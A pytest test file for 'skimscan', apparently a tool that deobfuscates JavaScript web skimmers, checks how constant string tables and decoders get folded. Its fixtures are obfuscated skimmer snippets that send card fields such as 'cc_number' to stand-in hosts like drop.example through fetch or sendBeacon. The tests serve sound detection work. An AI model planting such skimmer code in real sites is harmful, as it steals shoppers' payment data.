"""constant_arrays: elements of arrays the script never changes are read where they are
indexed — top-level string tables too, rotated or not — so built-ins and decoders on them fold;
arrays that are written, mutated, handed out or reachable through the global object are not."""

from __future__ import annotations

import base64
from pathlib import Path

import pytest

import skimscan
from skimscan.analyze.deobfuscate import (
    constant_arrays,
    constant_folding,
    decoders,
    deobfuscate_tree,
    proxy_functions,
)
from skimscan.analyze.deobfuscate.tree import walk
from skimscan.analyze.parse import parse, run_deep
from tests.deobfuscate.helpers import clean, flat

ROOT = Path(__file__).resolve().parents[2]


def b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def table(*strings: str) -> str:
    return ", ".join(f"'{b64(s)}'" for s in strings)


def hidden(code: str) -> dict[str, str]:
    """The strings of the clean program that deobfuscation marked as hidden, with their via."""

    def work() -> dict[str, str]:
        tree = parse(code).tree
        deobfuscate_tree(tree, code)
        return {n.value: n.hidden for n in walk(tree)
                if n.type == "Literal" and getattr(n, "hidden", None)}

    return run_deep(work)


# --- true positives ------------------------------------------------------------------------

def test_top_level_table_with_a_declared_atob_decoder() -> None:
    code = f"""var _0x3c2f = [{table('load', 'https://drop.example/c', 'cc_number', 'value')}];
    function _0x5e1a(i) {{ return atob(_0x3c2f[i]); }}
    window.addEventListener(_0x5e1a(0x0), function () {{
      fetch(_0x5e1a(0x1), {{body: document.getElementById(_0x5e1a(0x2))[_0x5e1a(0x3)]}});
    }});"""
    out = flat(clean(code))
    assert out == ('window.addEventListener("load", function () { fetch("https://drop.example/c",'
                   ' {body: document.getElementById("cc_number").value}); });')


def test_var_function_decoder_with_an_index_offset() -> None:
    code = f"""var _0x41aa = [{table('submit', 'https://drop.example/g', 'sendBeacon')}];
    var _0xdec = function (i) {{ return atob(_0x41aa[i - 0x1a2]); }};
    document.addEventListener(_0xdec(0x1a2), function () {{
      navigator[_0xdec(0x1a4)](_0xdec(0x1a3), d);
    }});"""
    out = flat(clean(code))
    assert 'document.addEventListener("submit"' in out
    assert 'navigator.sendBeacon("https://drop.example/g", d)' in out
    assert "_0x41aa" not in out and "_0xdec" not in out


def test_rotation_iife_is_run_before_the_elements_are_read() -> None:
    # spin(2) rotates left once: the table is read as [b, c, a]
    code = f"""var _0x1a = [{table('a.example', 'https://b.example', 'c.example')}];
    (function (arr, n) {{
      var spin = function (c) {{ while (--c) {{ arr['push'](arr['shift']()); }} }};
      spin(++n);
    }}(_0x1a, 0x1));
    function _0x2b(i) {{ return atob(_0x1a[i]); }}
    onload = function () {{ fetch(_0x2b(0)); }};"""
    assert 'fetch("https://b.example")' in flat(clean(code))


def test_a_rotation_that_reads_through_the_decoder_is_not_read_mid_spin() -> None:
    # obfuscator.io's checksum loop: rotates until decoded numbers add up to the target
    strings = ["123", "456", "https://drop.example/c", "cc_number"]
    stored = strings[-2:] + strings[:-2]  # two left turns give `strings`
    code = f"""var _0x1a2b = [{table(*stored)}];
    function _0xd(i) {{ return atob(_0x1a2b[i - 0x100]); }}
    (function (a, t) {{ while (true) {{ try {{
      var v = parseInt(_0xd(0x100)) + parseInt(_0xd(0x101));
      if (v === t) break; else a['push'](a['shift']());
    }} catch (e) {{ a['push'](a['shift']()); }} }} }})(_0x1a2b, 579);
    onsubmit = function () {{
      fetch(_0xd(0x102), {{body: document.getElementById(_0xd(0x103))}}); }};
    """
    out = flat(clean(code))
    assert 'fetch("https://drop.example/c", {body: document.getElementById("cc_number")})' in out
    # inside the loop the table is still turning: its reads there stay reads
    kept = flat(clean(code, proxy_functions, constant_folding, constant_arrays))
    assert "parseInt(atob(_0x1a2b[0])) + parseInt(atob(_0x1a2b[1]))" in kept
    assert 'fetch(atob("aHR0cHM6Ly9kcm9wLmV4YW1wbGUvYw=="), ' in kept


def test_plain_array_read_in_a_call() -> None:
    code = ("var cfg = ['cc', 'cvv', 'exp', 'https://drop.example/k'];"
            "function send(d) { navigator.sendBeacon(cfg[3], d); }")
    out = flat(clean(code, constant_arrays))
    assert 'navigator.sendBeacon("https://drop.example/k", d);' in out


def test_hex_escapes_char_codes_uri_escapes_and_own_decoders_on_elements() -> None:
    code = r"""var _0xc3 = ['\x68\x74\x74\x70\x73\x3a\x2f\x2f\x65\x2e\x65\x78\x61\x6d\x70\x6c\x65',
      104, 105, '%63%76%76', '%u0063c', 'iuuqt;00espq/fybnqmf'];
    function s(t) { var o = ''; for (var i = 0; i < t.length; i++)
      o += String.fromCharCode(t.charCodeAt(i) - 1); return o; }
    onload = function () {
      go(_0xc3[0], String.fromCharCode(_0xc3[1], _0xc3[2]), decodeURIComponent(_0xc3[3]),
         unescape(_0xc3[4]), s(_0xc3[5]));
    };"""
    out = flat(clean(code))
    assert 'go("https://e.example", "hi", "cvv", "cc", "https://drop.example");' in out


def test_arrays_inside_functions_are_read_too() -> None:
    code = f"(function () {{ var t = [{table('hi', 'x')}]; f(atob(t[0])); }})();"
    assert 'f("hi");' in flat(clean(code))


def test_a_big_table_marks_its_strings_as_the_string_arrays() -> None:
    names = [f"name{i}" for i in range(decoders.TABLE_MIN)]
    code = f"""var _0xbig = [{table('https://drop.example/t', *names)}];
    var _0xsmall = [{table('https://drop.example/s')}];
    onload = function () {{ a(atob(_0xbig[0])); b(atob(_0xsmall[0])); }};"""
    via = hidden(code)
    assert via["https://drop.example/t"] == "string-array"  # a table hides every string alike
    assert via["https://drop.example/s"] == "builtin-calls"  # one string singled out


def test_the_documented_example_reads_as_its_strings() -> None:
    code = (ROOT / "fixtures" / "docs" / "suspicious.js").read_text()
    out = skimscan.deobfuscate(code).code
    assert '"https://baways.com/gateway/app/dataprocessing/api/"' in out
    # the key "addEventListener" is read out of the table, then written as the member it names
    assert 'window.addEventListener("load", function ()' in out
    assert '.addEventListener("mouseup", function ()' in out
    assert "atob(" not in out and "_0x3c2f" not in out


# --- false positives -----------------------------------------------------------------------

DECODER = f"var arr = [{table('good.example', 'x', 'y')}]; function d(i) {{ return atob(arr[i]); }}"


@pytest.mark.parametrize("change", [
    "arr = ['ZXZpbC5leGFtcGxl'];",
    "arr[0] = 'ZXZpbC5leGFtcGxl';",
    "arr[0] += '';",
    "delete arr[0];",
    "[arr[0]] = ['ZXZpbC5leGFtcGxl'];",
    "shuffle(arr);",
    "var copy = arr; copy[0] = 'ZXZpbC5leGFtcGxl';",
    "arr.sort();",
    "arr.reverse();",
    "arr.splice(0, 1);",
    "arr.push('x');",
    "arr[m]();",
    "arr.forEach(function (v, i, a) { a[0] = 'ZXZpbC5leGFtcGxl'; });",
])
def test_arrays_the_script_changes_or_hands_out_are_not_read(change: str) -> None:
    code = f"{DECODER} {change} onload = function () {{ fetch(d(0)); fetch(d(1)); }};"
    out = flat(clean(code))
    assert '"good.example"' not in out and "atob(arr[" in out


def test_run_time_indexes_are_not_read() -> None:
    out = flat(clean(f"{DECODER} fetch(d(k)); send(arr[j], arr[1 + n]);"))
    assert "fetch(atob(arr[k]));" in out and "send(arr[j], arr[1 + n]);" in out


def test_reads_before_the_array_holds_its_value_are_not_read() -> None:
    code = f"fetch(atob(arr[0])); var arr = [{table('good.example')}];"
    assert "atob(arr[0])" in flat(clean(code))


@pytest.mark.parametrize("reach", [
    "window.arr = ['ZXZpbC5leGFtcGxl'];",
    "self['arr'].reverse();",
    "window[key] = ['ZXZpbC5leGFtcGxl'];",
    "window[name](code);",
    "Object.assign(window, extra);",
    "(function (w) { w[key] = v; })(window);",
    "var g = this; g.arr = [];",
    f"window[atob('{b64('arr')}')] = [];",
    "function put(o, k, v) { o[k] = v; } put(window, key, []); put(self, key, []);",
    "var root = typeof self !== 'undefined' ? self : window; root[key] = [];",
    "jQuery.extend(window, extra);",
    "exports.g = window;",
    "(function () { this[key] = []; })();",
    "window[window.name + ''] = [];",
    "window[this.k + ''] = [];",
])
def test_top_level_arrays_the_global_object_could_reach_are_not_read(reach: str) -> None:
    code = f"{DECODER} {reach} onload = function () {{ fetch(d(0)); }};"
    assert '"good.example"' not in flat(clean(code))


def test_global_object_keys_computed_from_the_table_itself_are_known() -> None:
    code = f"""var _0xab = [{table('addEventListener', 'load', 'https://drop.example/w')}];
    function d(i) {{ return atob(_0xab[i]); }}
    window[d(0)](d(1), function () {{ fetch(d(2)); }});"""
    out = flat(clean(code))
    assert 'window.addEventListener("load", function () { fetch("https://drop.example/w"); });' \
        in out


def test_the_global_object_used_only_as_itself_leaves_tables_readable() -> None:
    code = f"""var _0xab = [{table('load', 'https://drop.example/w', 'bind', 'resize')}];
    function d(i) {{ return atob(_0xab[i]); }}
    function on(el, type, fn) {{ el.addEventListener(type, fn); }}
    function place(el, r) {{ el.style.top = r.top + 'px'; return el.parent; }}
    function Slider() {{}}
    Slider.prototype.init = function (names) {{
      for (var i = 0; i < names.length; i++) this[names[i]] = this[names[i]].bind(this);
    }};
    if (typeof window !== 'undefined') jQuery(window).on(d(3), function () {{}});
    Event.observe(window, d(0), function () {{ fetch(d(1)); }});
    on(window, d(0), function () {{ setTimeout(function () {{ fetch(d(1)); }}, 10); }});"""
    out = flat(clean(code))
    assert out.count('fetch("https://drop.example/w")') == 2 and '.on("resize"' in out


def test_keys_computed_by_the_scripts_own_decoder_are_known() -> None:
    shifted = "".join(chr(ord(c) + 1) for c in "addEventListener")
    code = f"""var _0xab = ['{shifted}', '{b64('https://drop.example/d')}'];
    function s(t) {{ var o = ''; for (var i = 0; i < t.length; i++)
      o += String.fromCharCode(t.charCodeAt(i) - 1); return o; }}
    window[s(_0xab[0])]('load', function () {{ fetch(atob(_0xab[1])); }});"""
    out = flat(clean(code))
    assert 'window.addEventListener("load", function () { fetch("https://drop.example/d"); });' \
        in out


def test_a_key_that_computes_to_eval_leaves_the_tables_alone() -> None:
    code = f"""var _0xab = [{table('eval', 'https://drop.example/e', 'setTimeout')}];
    function d(i) {{ return atob(_0xab[i]); }}
    window[d(0)](code); onload = function () {{ fetch(d(1)); }};"""
    assert "drop.example" not in flat(clean(code))
    timer = f"""var _0xab = [{table('eval', 'https://drop.example/e', 'setTimeout')}];
    function d(i) {{ return atob(_0xab[i]); }}
    window[d(2)](function () {{ fetch(d(1)); }}, 10);"""
    assert 'window.setTimeout(function () { fetch("https://drop.example/e"); }, 10);' in \
        flat(clean(timer))


def test_short_top_level_names_are_read_only_by_code_that_runs_with_the_script() -> None:
    # another unwrapped script on the page may declare its own `a` before the handler runs
    code = f"""var a = [{table('now.example', 'later.example')}];
    fetch(atob(a[0])); (function () {{ fetch(atob(a[0])); }})();
    onclick = function () {{ fetch(atob(a[1])); }};"""
    out = flat(clean(code))
    assert out.count('fetch("now.example")') == 2 and "fetch(atob(a[1]))" in out


def test_a_rotation_that_fails_in_the_isolate_gives_no_elements() -> None:
    code = f"""var _0x1a = [{table('a.example', 'b.example')}];
    (function (arr, n) {{ if (document.cookie) arr['push'](arr['shift']()); }}(_0x1a, 1));
    onload = function () {{ fetch(atob(_0x1a[0])); }};"""
    assert "atob(_0x1a[0])" in flat(clean(code))
